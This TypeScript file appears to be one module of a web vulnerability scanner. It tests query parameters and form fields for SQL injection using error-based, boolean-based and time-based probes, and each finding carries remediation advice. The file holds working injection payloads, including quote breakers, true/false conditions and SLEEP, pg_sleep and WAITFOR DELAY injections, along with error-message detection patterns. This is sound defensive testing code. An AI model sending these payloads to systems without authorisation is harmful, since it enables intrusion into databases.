import { activeCheck, around, type Probe, type Proof } from '../active/active-check.ts';
import { pointName } from '../active/injection-points.ts';
import { similarity } from '../active/similarity.ts';
import { provesDelay } from '../active/timing.ts';

/** Database error messages (MySQL/MariaDB, PostgreSQL, SQLite, SQL Server, Oracle, generic drivers). */
const SQL_ERRORS: RegExp[] = [
  /You have an error in your SQL syntax|check the manual that corresponds to your (MySQL|MariaDB)|Warning: mysqli?_|MySqlException|com\.mysql\.jdbc/i,
  /syntax error at or near|unterminated quoted string at or near|pg_query\(\)|PSQLException|PG::SyntaxError/i,
  /SQLITE_ERROR|SQLite3::|sqlite3\.OperationalError|unrecognized token: |near "[^"]{0,40}": syntax error|SQLiteException/i,
  /Unclosed quotation mark after the character string|Incorrect syntax near|Microsoft OLE DB Provider for SQL Server|System\.Data\.SqlClient/i,
  /ORA-0\d{4}|quoted string not properly terminated/i,
  /SQLSTATE\[\w+\]|Dynamic SQL Error|SQL command not properly ended/i,
];

function sqlError(body: string): { at: number } | null {
  for (const re of SQL_ERRORS) {
    const m = re.exec(body);
    if (m) return { at: m.index };
  }
  return null;
}

/** Quotes and a backslash that break a string or a statement; an error the baseline did not show is the proof. */
async function errorBased(probe: Probe): Promise<Proof | null> {
  if (sqlError(probe.baseline.body)) return null;
  for (const suffix of ["'", '"', "')", '\\']) {
    const payload = `${probe.point.original}${suffix}`;
    const res = await probe.send(payload);
    if (!res) return null;
    const err = sqlError(res.body);
    if (err) return { payload, technique: 'database error message', indicator: around(res.body, err.at, 200) };
  }
  return null;
}

/**
 * A condition that is true must leave the page as it was and a false one must change it,
 * twice with different constants; a page that changes by itself (two baselines differ) is
 * not judged this way.
 */
async function booleanBased(probe: Probe): Promise<Proof | null> {
  const v = probe.point.original;
  const again = await probe.send(v);
  if (!again) return null;
  const stable = similarity(probe.baseline.body, again.body);
  if (stable < 0.98 || again.status !== probe.baseline.status) return null;
  const numeric = /^-?\d+$/.test(v);
  const contexts: Array<(x: string, y: string) => string> = [
    ...(numeric ? [(x: string, y: string) => `${v} AND ${x}=${y}`] : []),
    (x, y) => `${v}' AND '${x}'='${y}`,
    (x, y) => `${v}" AND "${x}"="${y}`,
  ];
  for (const make of contexts) {
    const pairs: Array<[string, string, string, string]> = [['1', '1', '1', '2'], ['7', '7', '7', '8']];
    const shown: string[] = [];
    let holds = true;
    for (const [a, b, c, d] of pairs) {
      const yes = await probe.send(make(a, b));
      const no = yes && (await probe.send(make(c, d)));
      if (!yes || !no) return null;
      const sent = [make(a, b), make(c, d), v];
      const same = similarity(probe.baseline.body, yes.body, sent);
      const differs = similarity(probe.baseline.body, no.body, sent);
      if (yes.status !== probe.baseline.status || same < 0.98 || differs > 0.9 || differs > same - 0.05) {
        holds = false;
        break;
      }
      shown.push(`${make(a, b)} → ${Math.round(same * 100)} % like the baseline; ${make(c, d)} → ${Math.round(differs * 100)} %`);
    }
    if (holds) return { payload: make('1', '2'), technique: 'boolean condition (true keeps the page, false changes it)', indicator: shown.join('; '), confirmations: [make('1', '1'), make('7', '7'), make('7', '8')] };
  }
  return null;
}

/** Sleep functions of MySQL/MariaDB, PostgreSQL and SQL Server, in numeric and string contexts. */
function delayPayloads(v: string): Array<{ db: string; make: (s: string) => string }> {
  const numeric = /^-?\d+$/.test(v);
  return [
    ...(numeric ? [{ db: 'MySQL/MariaDB', make: (s: string) => `${v} AND (SELECT 1 FROM (SELECT SLEEP(${s}))r)` }] : []),
    { db: 'MySQL/MariaDB', make: (s) => `${v}' AND (SELECT 1 FROM (SELECT SLEEP(${s}))r)-- -` },
    ...(numeric ? [{ db: 'PostgreSQL', make: (s: string) => `${v}+(SELECT 0 FROM pg_sleep(${s}))` }] : []),
    { db: 'PostgreSQL', make: (s) => `${v}'||(SELECT '' FROM pg_sleep(${s}))||'` },
    { db: 'SQL Server', make: (s) => `${v}';WAITFOR DELAY '00:00:${Number(s).toFixed(3).padStart(6, '0')}'-- -` },
  ];
}

async function timeBased(probe: Probe): Promise<Proof | null> {
  for (const { db, make } of delayPayloads(probe.point.original)) {
    const proof = await provesDelay(probe, make, `time delay (${db} sleep)`);
    if (proof) return proof;
  }
  return null;
}

export const sqlInjection = activeCheck({
  id: 'web_app:sql-injection',
  title: 'SQL injection',
  maxSeverity: 'critical',
  description: 'Tests each query parameter and form field for SQL injection: error-based (quotes that raise a database error), boolean-based (true/false conditions, confirmed twice) and time-based (MySQL/MariaDB, PostgreSQL and SQL Server sleeps, confirmed by a 0 s control and a repeat), within the request budget.',
  async test(probe) {
    return (await errorBased(probe)) ?? (await booleanBased(probe)) ?? (await timeBased(probe));
  },
  finding: (point, proof) => ({
    title: `SQL injection in ${pointName(point)}`,
    cvss_vector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H',
    description: `The value of \`${point.parameter}\` sent to ${point.method} ${point.url} becomes part of an SQL statement (${proof.technique}). Whoever can reach the page can read, change or delete the database's data, and often run commands on the database host.`,
    remediation: 'Use parameterised queries (placeholders) for every value; never build SQL by concatenating input. Give the application\'s database account the least privileges it needs.',
    references: ['https://cwe.mitre.org/data/definitions/89.html', 'https://owasp.org/www-community/attacks/SQL_Injection'],
    tags: ['web', 'injection', 'sqli', 'active'],
  }),
});
